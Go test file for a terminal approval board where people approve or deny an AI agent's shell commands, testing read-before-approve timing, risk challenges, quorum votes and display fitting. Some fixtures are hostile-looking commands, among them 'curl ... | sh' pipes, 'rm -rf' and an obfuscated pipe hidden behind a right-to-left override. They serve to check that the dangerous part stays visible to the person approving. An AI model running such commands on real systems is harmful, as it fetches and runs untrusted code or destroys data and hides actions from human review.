package inbox

import (
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/tada-run/tada-run/approval"
	"github.com/tada-run/tada-run/approval/canonical"
	"github.com/tada-run/tada-run/approval/plan"
	"github.com/tada-run/tada-run/launcher/prompt"
)

// A standIn is a desk that remembers the calls to it.
type standIn struct {
	waiting []approval.Envelope
	decided []approval.Decision
	granted int
	choice  int // that was granted last
}

func (s *standIn) MayChoose(e approval.Envelope, _ approval.Channel) bool {
	return len(plan.Choices(e.Payload)) > 0
}

func (s *standIn) ChoicesOf(payload []byte) (list []prompt.Choice) {
	for _, c := range plan.Choices(payload) {
		says := []string{"at most: " + c.AtMost}
		list = append(list, prompt.Choice{Command: c.Text(), Says: says})
	}
	return list
}

func (s *standIn) Pending(context.Context) ([]approval.Envelope, error) { return s.waiting, nil }
func (s *standIn) Envelope(_ context.Context, id string) (approval.Envelope, error) {
	i := slices.IndexFunc(s.waiting, func(e approval.Envelope) bool { return e.ID == id })
	return s.waiting[i], nil
}
func (s *standIn) Decide(_ context.Context, d approval.Decision) error {
	s.decided = append(s.decided, d)
	return nil
}
func (s *standIn) DecideStanding(_ context.Context, d approval.Decision,
	r approval.GrantRequest) (approval.Grant, error) {
	s.granted++
	s.choice = r.Choice
	return approval.Grant{}, s.Decide(context.Background(), d)
}

func questionOf(t *testing.T, risk int, commands ...string) approval.Envelope {
	t.Helper()
	var calls []any
	var ids []string
	for i, c := range commands {
		id := "c" + string(rune('1'+i))
		ids = append(ids, id)
		calls = append(calls, map[string]any{"tool_call_id": id, "tool_name": "shell",
			"args": map[string]any{"command": c}})
	}
	payload, err := json.Marshal(map[string]any{"risk": risk, "tool_calls": calls, "trust": "agent",
		"effects": map[string]any{}})
	if err != nil {
		t.Fatal(err)
	}
	f := plan.FrictionOf(risk)
	return approval.Envelope{ID: "e1", Payload: payload, PlanHash: plan.Hash(payload), Calls: ids,
		Risk:     risk,
		Friction: f, Challenge: strings.Repeat("K", f.Challenge), Issued: start,
		Expires: start.Add(time.Hour)}
}

// start is when a scene begins, and when its question came.
var start = time.Unix(1000, 0)

// A scene is a board with a clock that the test sets.
type scene struct {
	*board
	desk *standIn
	at   time.Time
}

func newScene(e approval.Envelope, width, height int) *scene {
	p := &scene{desk: &standIn{}, at: start}
	p.board = &board{ctx: context.Background(), desk: p.desk, now: func() time.Time { return p.at }}
	p.Update(tea.WindowSizeMsg{Width: width, Height: height})
	p.Update(listed{list: []approval.Envelope{e}})
	return p
}

// key presses a key after a while; the board also gets what follows at once.
func (p *scene) key(after time.Duration, k tea.Key) {
	p.at = p.at.Add(after)
	_, cmd := p.Update(tea.KeyPressMsg(k))
	if cmd != nil && p.mode != choosing {
		if msg, ok := cmd().(settled); ok {
			p.Update(msg)
		}
	}
}

func letter(r rune) tea.Key { return tea.Key{Text: string(r), Code: r} }

var (
	enter = tea.Key{Code: tea.KeyEnter}
	space = tea.Key{Code: tea.KeySpace, Text: " "}
)

// E-chan-3, B-R5.2: which keys approve, and when.
func TestBoardKeys(t *testing.T) {
	slow, fast := 3*time.Second, 10*time.Millisecond
	type step struct {
		after time.Duration
		key   tea.Key
	}
	for _, c := range []struct {
		name  string
		risk  int
		rows  int
		steps []step
		yes   bool
	}{
		{"read, then y", 1, 60, []step{{slow, enter}, {slow, letter('y')}}, true},
		{"y before it was seen", 1, 60, []step{{slow, enter}, {fast, letter('y')}}, false},
		{"Enter", 1, 60, []step{{slow, enter}, {slow, enter}, {slow, enter}}, false},
		{"a burst", 1, 60, []step{{slow, enter}, {slow, letter('x')}, {fast, letter('y')}}, false},
		{"not read to its end", 1, 4, []step{{slow, enter}, {slow, letter('y')}}, false},
		{"read to its end", 1, 4, []step{{slow, enter}, {slow, space}, {slow, space}, {slow, space},
			{slow, space}, {slow, space}, {slow, letter('y')}}, true},
		{"one key for high risk", 2, 60, []step{{slow, enter}, {slow, letter('y')}}, false},
		{"typed for high risk", 2, 60,
			[]step{{slow, enter}, {slow, letter('y')}, {slow, letter('K')}, {slow, letter('k')},
				{slow, letter('K')}, {slow, letter('k')}}, true},
		{"something else typed", 2, 60,
			[]step{{slow, enter}, {slow, letter('y')}, {slow, letter('K')}, {slow, letter('K')},
				{slow, letter('K')}, {slow, letter('X')}}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newScene(questionOf(t, c.risk, "rm -rf build"), 80, c.rows)
			for _, s := range c.steps {
				p.key(s.after, s.key)
			}
			if got := len(p.desk.decided) == 1 &&
				p.desk.decided[0].Calls[0].Approved; got != c.yes {
				t.Errorf("approved %v, want %v: %+v, in mode %d", got, c.yes, p.desk.decided,
					p.mode)
			}
			if c.yes && (!p.desk.decided[0].Paged || p.desk.decided[0].Took <= 0 ||
				p.desk.decided[0].Channel != "inbox") {
				t.Errorf("%+v", p.desk.decided[0])
			}
		})
	}
}

// B-R7.1, B-R7.2: each call has its own answer, and a denial has the user's message.
func TestBoardAnswersEachCall(t *testing.T) {
	p := newScene(questionOf(t, 1, "ls a", "rm b", "ls c"), 100, 60)
	for _, k := range []tea.Key{enter, letter('2'), letter('y')} {
		p.key(3*time.Second, k)
	}
	if d := p.desk.decided; len(d) != 1 || !d[0].Calls[0].Approved || d[0].Calls[1].Approved ||
		!d[0].Calls[2].Approved {
		t.Errorf("%+v", d)
	}
	if p.note != "approved, except c2, e1" {
		t.Errorf("the person is told %q", p.note)
	}
	p = newScene(questionOf(t, 1, "ls a", "rm b"), 100, 60)
	for _, k := range []tea.Key{enter, letter('1'), letter('2'), letter('y')} {
		p.key(3*time.Second, k)
	}
	if p.note != "denied e1" {
		t.Errorf("a yes to no call is told as %q", p.note)
	}
	p = newScene(questionOf(t, 1, "ls a", "rm b", "ls c"), 100, 60)
	for _, k := range []tea.Key{
		// the second with a message, the third with one that is dropped when it is allowed again,
		// and denied
		enter, letter('w'), letter('2'), letter('w'), letter('n'), letter('o'), enter,
		letter('3'), letter('w'), letter('x'), enter, letter('3'), letter('3'), letter('y'),
	} {
		p.key(3*time.Second, k)
	}
	want := []approval.CallDecision{{ID: "c1", Approved: true}, {ID: "c2", Message: "no"},
		{ID: "c3"}}
	if d := p.desk.decided; len(d) != 1 || !slices.Equal(d[0].Calls, want) {
		t.Errorf("%+v", d)
	}
	p = newScene(questionOf(t, 1, "ls a"), 100, 60)
	for _, k := range []tea.Key{enter, letter('n'), letter('n'), letter('o'), enter} {
		p.key(3*time.Second, k)
	}
	if d := p.desk.decided; len(d) != 1 || d[0].Calls[0].Approved || d[0].Calls[0].Message != "no" {
		t.Errorf("%+v", d)
	}
}

// B-R7.4: a denial may name another command if there is one call; an empty one is not an answer.
func TestBoardOffersAnother(t *testing.T) {
	for _, c := range []struct {
		commands []string
		keys     []tea.Key
		instead  string
	}{
		{[]string{"rm -rf a"}, []tea.Key{enter, letter('i'), letter('l'), letter('s'), enter},
			"ls"},
		{[]string{"rm -rf a"}, []tea.Key{enter, letter('i'), enter}, ""},
		{[]string{"rm -rf a"}, []tea.Key{enter, letter('i'), letter('l'), {Code: tea.KeyEscape}},
			""},
		{[]string{"rm -rf a", "ls"}, []tea.Key{enter, letter('i'), letter('l'), enter}, ""},
	} {
		p := newScene(questionOf(t, 1, c.commands...), 100, 60)
		for _, k := range c.keys {
			p.key(3*time.Second, k)
		}
		d := p.desk.decided
		if c.instead == "" && len(d) != 0 ||
			c.instead != "" && (len(d) != 1 || d[0].Calls[0].Approved ||
				d[0].Calls[0].Instead != c.instead) {
			t.Errorf("%q: %+v", c.keys, d)
		}
	}
}

// E-std-2: a grant is not offered if there can be none.
func TestBoardOffersGrants(t *testing.T) {
	for command, offered := range map[string]bool{"ls a": true, "sudo ls": false,
		"python3 -c x": false} {
		p := newScene(questionOf(t, 1, command), 100, 60)
		p.key(3*time.Second, enter)
		p.at = p.at.Add(3 * time.Second)
		if got := strings.Contains(p.help(), "g:"); got != offered {
			t.Errorf("%q: %q", command, p.help())
		}
		for _, k := range []tea.Key{letter('g'), letter('y')} {
			p.key(3*time.Second, k)
		}
		if (p.desk.granted == 1) != offered {
			t.Errorf("%q: granted %d", command, p.desk.granted)
		}
	}
	several := questionOf(t, 1, "ls a")
	several.Quorum = 2
	braked := questionOf(t, 1, "ls a")
	braked.Challenge = "KKKK"
	for name, p := range map[string]*scene{"several people": newScene(several, 100, 60),
		"the brake is on":  newScene(braked, 100, 60),
		"a call is denied": newScene(questionOf(t, 1, "ls a", "ls b"), 100, 60)} {
		for _, k := range []tea.Key{enter, letter('2'), letter('g'), letter('y')} {
			p.key(3*time.Second, k)
		}
		if p.desk.granted != 0 {
			t.Errorf("%s: granted", name)
		}
	}
}

// B-R8, E-chan-8: approvals of several people are counted until there are enough, each without a
// one-time code. The approval of one person at the highest risk takes the code after the
// characters, and is not sent without it.
func TestBoardCountsPeople(t *testing.T) {
	typed := func(p *scene, text string) {
		for _, r := range text {
			p.key(3*time.Second, letter(r))
		}
	}
	for _, c := range []struct {
		votes, quorum int
		code, told    string
	}{
		{0, 0, "123456", "approved e1"}, {0, 1, "123456", "approved e1"}, {0, 0, "12345", ""},
		{0, 2, "", "counted; more approvals needed: e1"},
		{1, 3, "", "counted; more approvals needed: e1"}, {1, 2, "", "approved e1"},
	} {
		e := questionOf(t, 3, "rm -rf a")
		e.Votes, e.Quorum = c.votes, c.quorum
		if !e.Friction.Factor || e.Friction.Challenge == 0 {
			t.Fatal("nothing is asked for")
		}
		p := newScene(e, 100, 60)
		p.key(3*time.Second, enter)
		typed(p, "y"+e.Challenge+c.code)
		if c.told == "" {
			if len(p.desk.decided) != 0 || p.mode != coding || strings.Contains(p.help(), "1") {
				t.Errorf("%+v: %+v, in mode %d, shows %q", c, p.desk.decided, p.mode, p.help())
			}
			continue
		}
		if d := p.desk.decided; len(d) != 1 || d[0].Code != c.code ||
			d[0].Challenge != e.Challenge || !d[0].Calls[0].Approved || p.note != c.told {
			t.Errorf("%+v: %+v, told %q", c, d, p.note)
		}
	}
}

// The screen is never longer or wider than the terminal, down to one cell.
func TestBoardFits(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {41, 10}, {45, 3}, {200, 100}, {60, 1}} {
		p := newScene(questionOf(t, 2, "rm -rf "+strings.Repeat("x", 500)), size[0], size[1])
		for _, k := range []tea.Key{enter, space, letter('y')} {
			for _, row := range p.rows() {
				if n := len([]rune(row)); n > size[0] {
					t.Errorf("%v: a row of %d: %q", size, n, row)
				}
			}
			if n := len(p.rows()); n > size[1] {
				t.Errorf("%v: %d rows", size, n)
			}
			p.key(3*time.Second, k)
		}
	}
}

// A question that is answered elsewhere while it is open is closed and not answered twice.
func TestBoardAnsweredElsewhere(t *testing.T) {
	p := newScene(questionOf(t, 1, "ls"), 80, 40)
	p.key(3*time.Second, enter)
	p.Update(listed{})
	p.key(3*time.Second, letter('y'))
	if len(p.desk.decided) != 0 || p.mode != choosing {
		t.Errorf("%+v in mode %d", p.desk.decided, p.mode)
	}
}

// B-R5.2a: if the first page cuts something, it cannot be approved: only the details can, once they
// were read to their end.
func TestBoardCutsNothing(t *testing.T) {
	p := newScene(questionOf(t, 1, "echo "+strings.Repeat("word ", 2000)), 80, 40)
	slow := 3 * time.Second
	p.key(slow, enter)
	if !p.page.Truncated || !strings.Contains(p.help(), "v: details first") {
		t.Fatalf("the first page cuts nothing: %s", p.help())
	}
	for _, k := range []tea.Key{letter('y'), letter('v'), letter('y')} {
		p.key(slow, k)
		if len(p.desk.decided) != 0 {
			t.Fatalf("approved unread: %+v", p.desk.decided)
		}
	}
	if p.page.Truncated || strings.Contains(p.page.Text(), "truncated") {
		t.Error("the page that can be approved is cut")
	}
	for range len(p.text) {
		p.key(slow, space)
	}
	p.key(slow, letter('y'))
	if len(p.desk.decided) != 1 || !p.desk.decided[0].Paged {
		t.Errorf("read to its end: %+v", p.desk.decided)
	}
}

// A y counts only if nothing else happens at once: no other key, and no answer elsewhere.
func TestBoardWaitsAfterAYes(t *testing.T) {
	for name, then := range map[string]func(p *scene){
		"nothing":             func(*scene) {},
		"another key":         func(p *scene) { p.key(3*time.Second, letter('x')) },
		"answered elsewhere":  func(p *scene) { p.Update(listed{}) },
		"a no is being typed": func(p *scene) { p.key(3*time.Second, letter('n')) },
	} {
		p := newScene(questionOf(t, 1, "ls"), 80, 40)
		p.key(3*time.Second, enter)
		p.at = p.at.Add(time.Second)
		p.Update(tea.KeyPressMsg(letter('y')))
		yes := settled{p.keys}
		then(p)
		p.Update(yes)
		if got := len(p.desk.decided) == 1; got != (name == "nothing") {
			t.Errorf("%s: %+v", name, p.desk.decided)
		}
	}
}

// The list has the questions that wait for an answer, not the answered ones that wait to be used.
func TestBoardListsWhatIsOpen(t *testing.T) {
	open, answered := questionOf(t, 1, "ls"), questionOf(t, 2, "rm")
	answered.ID, answered.Decision = "e2", &approval.Decision{}
	p := newScene(open, 80, 40)
	p.desk.waiting = []approval.Envelope{answered, open}
	changes := make(chan struct{}, 1)
	changes <- struct{}{}
	p.board.desk, p.board.changes = p.desk, changes
	if got, ok := p.listen().(listed); !ok || len(got.list) != 1 || got.list[0].ID != "e1" {
		t.Errorf("%+v", got)
	}
}

// The seconds that a question has waited are counted while nothing else happens, and a question
// whose time is over leaves the list.
func TestBoardCountsTheSeconds(t *testing.T) {
	p := newScene(questionOf(t, 1, "ls"), 80, 40)
	for at, want := range map[time.Duration]string{0: "  0s  ", 7 * time.Second: "  7s  ",
		59 * time.Minute: " 59m  "} {
		p.at = start.Add(at)
		if _, next := p.Update(ticked{}); next == nil {
			t.Fatal("it stops counting")
		}
		if rows := p.rows(); !strings.Contains(rows[2], want) {
			t.Errorf("after %v: %q", at, rows[2])
		}
	}
	p.at = start
	p.key(3*time.Second, enter)
	p.at = start.Add(time.Hour)
	p.Update(ticked{})
	p.key(3*time.Second, letter('y'))
	if len(p.list) != 0 || p.mode != choosing || len(p.desk.decided) != 0 {
		t.Errorf("a question that is too old stays: %d in mode %d, %+v", len(p.list), p.mode,
			p.desk.decided)
	}
}

// On the narrowest screen and in every list, the end of a wrapped command and what a reason points
// at are shown, and what is cut is counted.
func TestListsShowTheDangerousPart(t *testing.T) {
	for name, command := range map[string]string{
		"wrapped":   "curl -s https://a.test/" + strings.Repeat("x", 300) + " \\\n  | sh",
		"many rows": strings.Repeat("echo hello\n", 200) + "curl a.test | sh",
		"columns":   "echo " + strings.Repeat("a", 10_000) + " | sh",
		"wide":      "echo " + strings.Repeat("世", 400) + " | sh",
		"hidden":    "echo \u202e" + strings.Repeat("\t\r", 300) + " | sh",
	} {
		e := questionOf(t, 1, command)
		canonicalPayload(t, &e)
		for _, width := range []int{20, 40, 100, 300} {
			b := &board{width: width, height: 500, known: true, list: []approval.Envelope{e},
				now: func() time.Time { return start }, at: e.ID}
			rows := b.listRows()
			flat := ""
			for _, row := range rows[2:] {
				if n := len([]rune(row)); n > width {
					t.Errorf("%s at %d: a row of %d", name, width, n)
				}
				flat += strings.TrimPrefix(row, "      ")
			}
			if !strings.Contains(flat, "| sh") || !strings.Contains(flat, " chars cut]") {
				t.Errorf("%s at %d: %q", name, width, rows)
			}
		}
		if line := Short(e.Payload, 120); !strings.Contains(line, "| sh") ||
			len(command) > 400 && !strings.Contains(line, " chars cut]") ||
			strings.ContainsAny(line, "\n\r\t\x1b\u202e") {
			t.Errorf("%s: %q", name, line)
		}
	}
	several := questionOf(t, 1, "echo one", "curl a.test | sh")
	canonicalPayload(t, &several)
	if line := Short(several.Payload, 120); !strings.Contains(line, "| sh") ||
		!strings.Contains(line, "2 calls") {
		t.Errorf("%q", line)
	}
}

// canonicalPayload gives a question the one spelling that a store accepts.
func canonicalPayload(t *testing.T, e *approval.Envelope) {
	t.Helper()
	var tree map[string]any
	if err := json.Unmarshal(e.Payload, &tree); err != nil {
		t.Fatal(err)
	}
	tree["risk"] = int64(e.Risk)
	var err error
	if e.Payload, err = canonical.Append(nil, tree); err != nil {
		t.Fatal(err)
	}
}

// A cut row has its mark in ASCII, which a terminal of any locale shows, and one column is free.
func TestFit(t *testing.T) {
	for width, want := range map[int]string{3: "abcdefgh", 4: "...", 8: "abcd...", 9: "abcdefgh"} {
		if got := Fit("abcdefgh", width); got != want {
			t.Errorf("%d: %q", width, got)
		}
	}
}
